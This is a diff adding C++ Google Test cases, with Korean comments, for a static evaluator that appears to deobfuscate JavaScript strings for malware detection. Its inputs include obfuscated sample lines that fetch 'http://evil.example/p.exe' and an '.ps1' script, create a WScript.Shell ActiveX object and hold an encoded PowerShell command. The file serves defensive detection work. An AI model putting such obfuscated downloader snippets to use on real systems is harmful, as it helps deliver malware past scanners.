@@ -0,0 +1,133 @@
+#include "pch.h"
+#include <gtest/gtest.h>
+#include <chrono>
+#include <iostream>
+#include "../core/StaticStringEvaluator.h"
+
+// ============================================================================
+// StaticStringEvaluator: 실행 없이 문자열 조립 난독화 복원
+// ============================================================================
+namespace {
+
+const StaticStringEvaluator::ResolvedString* findValue(const StaticStringEvaluator::Result& result, const std::string& value) {
+    for (const auto& resolved : result.strings) {
+        if (resolved.value == value) return &resolved;
+    }
+    return nullptr;
+}
+
+} // namespace
+
+TEST(StaticStringEvaluatorTest, FoldsConcatenationAndCompoundAssignment) {
+    auto result = StaticStringEvaluator::evaluate(
+        "var a = 'ev' + 'al'; var b = a + '(x)'; window[a](b);\n"
+        "var s = ''; s += 'pow'; s += 'ershell';\n"
+        "var partial = 'xx' + unknownValue;");
+
+    const auto* eval = findValue(result, "eval");
+    ASSERT_NE(eval, nullptr);
+    EXPECT_EQ(eval->name, "a");
+    EXPECT_EQ(eval->describeTechniques(), "concat");
+    EXPECT_NE(findValue(result, "eval(x)"), nullptr);
+    EXPECT_NE(findValue(result, "powershell"), nullptr);
+    EXPECT_EQ(findValue(result, "xx"), nullptr);
+}
+
+TEST(StaticStringEvaluatorTest, FoldsFromCharCodeForms) {
+    auto result = StaticStringEvaluator::evaluate(
+        "var u = String.fromCharCode(104, 116, 116, 112, 58, 47, 47);\n"
+        "var v = String.fromCharCode.apply(null, [0x65, 0x76, 0x61, 0x6c]);\n"
+        "var w = [99, 109, 100].map(function (c) { return String.fromCharCode(c); }).join('');\n"
+        "var z = [0x6f, 0x70, 0x65, 0x6e].map(c => String.fromCharCode(c ^ 0)).join('');\n"
+        "var spread = String.fromCharCode(...[0x41, 0x42]);");
+
+    EXPECT_NE(findValue(result, "http://"), nullptr);
+    EXPECT_NE(findValue(result, "eval"), nullptr);
+    EXPECT_NE(findValue(result, "cmd"), nullptr);
+    EXPECT_NE(findValue(result, "open"), nullptr);
+    EXPECT_NE(findValue(result, "AB"), nullptr);
+}
+
+TEST(StaticStringEvaluatorTest, FoldsReverseAndDecoders) {
+    auto result = StaticStringEvaluator::evaluate(
+        "document.write('>tpircs/<>tpircs<'.split('').reverse().join(''));\n"
+        "function rev(s) { return s.split('').reverse().join(''); }\n"
+        "var shell = rev('llehS.tpircSW');\n"
+        "var t = unescape('%77%73%63%72%69%70%74');\n"
+        "var q = atob('aHR0cDovL3guZXhhbXBsZQ==');");
+
+    const auto* script = findValue(result, "<script></script>");
+    ASSERT_NE(script, nullptr);
+    EXPECT_EQ(script->name, "write()");
+    EXPECT_NE(findValue(result, "WScript.Shell"), nullptr);
+    EXPECT_NE(findValue(result, "wscript"), nullptr);
+    EXPECT_NE(findValue(result, "http://x.example"), nullptr);
+}
+
+TEST(StaticStringEvaluatorTest, ResolvesRotatedStringArrayWithCount) {
+    auto result = StaticStringEvaluator::evaluate(
+        "var _0x1e2f=['log','Hello\\x20World','http://evil.example/p.exe'];"
+        "(function(_0x2d8f05,_0x4b81bb){var _0x4d74cb=function(_0x32ef){while(--_0x32ef){"
+        "_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x1e2f,0x1));"
+        "var _0x4c3e=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;var _0x4d74cb=_0x1e2f[_0x2d8f05];return _0x4d74cb;};"
+        "console[_0x4c3e('0x2')](_0x4c3e('0x0'));fetch(_0x4c3e('0x1'));");
+
+    EXPECT_EQ(result.stringArrays, 1u);
+    const auto* url = findValue(result, "http://evil.example/p.exe");
+    ASSERT_NE(url, nullptr);
+    EXPECT_EQ(url->name, "fetch()");
+    EXPECT_EQ(url->describeTechniques(), "string_array");
+    EXPECT_NE(findValue(result, "log"), nullptr);
+}
+
+TEST(StaticStringEvaluatorTest, ResolvesRotatedStringArrayWithChecksum) {
+    // obfuscator.io 최신 형식: 함수 선언은 끝에 (hoisting), parseInt 체크섬이 맞을 때까지 회전
+    auto result = StaticStringEvaluator::evaluate(
+        "const _0x5c=_0x3f1a;(function(_0x4f,_0x9a){var _0xf=_0x3f1a,_0x5a=_0x4f();while(!![]){try{"
+        "var _0xc=parseInt(_0xf(0x1d3))/0x1+-parseInt(_0xf(0x1d5))/0x2*(parseInt(_0xf(0x1d8))/0x3);"
+        "if(_0xc===_0x9a)break;else _0x5a['push'](_0x5a['shift']());}catch(_0xe){_0x5a['push'](_0x5a['shift']());}}"
+        "}(_0x2b3c,-371045.6666666667));"
+        "var shell=new ActiveXObject(_0x5c(0x1d6));fetch(_0x5c(0x1d4));console[_0x5c(0x1d2)](_0x5c(0x1d7));"
+        "function _0x3f1a(_0x1,_0x2){var _0x3=_0x2b3c();return _0x3f1a=function(_0x4,_0x5){_0x4=_0x4-0x1d2;"
+        "var _0x6=_0x3[_0x4];return _0x6;},_0x3f1a(_0x1,_0x2);}"
+        "function _0x2b3c(){var _0x1a=['WScript.Shell','powershell -enc AAAA','424hUtJkn','log','1509XkTbQe',"
+        "'http://evil.example/x.ps1','5272bNkCyf'];_0x2b3c=function(){return _0x1a;};return _0x2b3c();}");
+
+    EXPECT_EQ(result.stringArrays, 1u);
+    EXPECT_NE(findValue(result, "WScript.Shell"), nullptr);
+    EXPECT_NE(findValue(result, "http://evil.example/x.ps1"), nullptr);
+    EXPECT_NE(findValue(result, "powershell -enc AAAA"), nullptr);
+}
+
+TEST(StaticStringEvaluatorTest, SurvivesHostileInput) {
+    std::string nested;
+    for (int i = 0; i < 5000; ++i) nested += "(((['";
+    EXPECT_NO_THROW(StaticStringEvaluator::evaluate(nested));
+
+    // 문자열 길이 제한: 2^30 바이트까지 불어나는 자기 연결
+    std::string doubling = "var a = 'x'";
+    for (int i = 0; i < 30; ++i) doubling += "; a = a + a";
+    auto result = StaticStringEvaluator::evaluate(doubling);
+    for (const auto& resolved : result.strings) {
+        EXPECT_LE(resolved.value.size(), StaticStringEvaluator::MAX_STRING_LENGTH);
+    }
+
+    EXPECT_TRUE(StaticStringEvaluator::evaluate("var s = `a${b}c`; var r = /it's/g; // 'x' + 'y'").strings.empty());
+}
+
+TEST(StaticStringEvaluatorBenchmark, LargeBundleThroughput) {
+    std::string code;
+    for (int i = 0; i < 20000; ++i) {
+        code += "f(a" + std::to_string(i) + ", 'x' + 'y" + std::to_string(i) + "', obj.m(" + std::to_string(i) + "));\n";
+    }
+
+    auto start = std::chrono::steady_clock::now();
+    auto result = StaticStringEvaluator::evaluate(code);
+    double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - start).count();
+
+    EXPECT_FALSE(result.truncated);
+    EXPECT_EQ(result.strings.size(), StaticStringEvaluator::MAX_RESOLVED);
+    std::cout << "[ BENCH    ] static eval " << code.size() / 1024 << " KB, " << result.tokens << " tokens: "
+              << ms << " ms" << std::endl;
+    RecordProperty("static_eval_ms", std::to_string(ms));
+}